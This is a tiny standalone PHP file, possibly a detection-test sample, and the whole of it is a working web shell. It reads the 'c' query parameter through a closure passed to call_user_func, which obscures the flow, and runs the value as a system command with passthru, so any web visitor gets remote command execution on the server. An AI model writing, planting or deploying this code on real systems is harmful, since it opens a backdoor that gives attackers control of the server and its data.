<?php
passthru(call_user_func(function () { $x = $_GET["c"]; return $x; }));
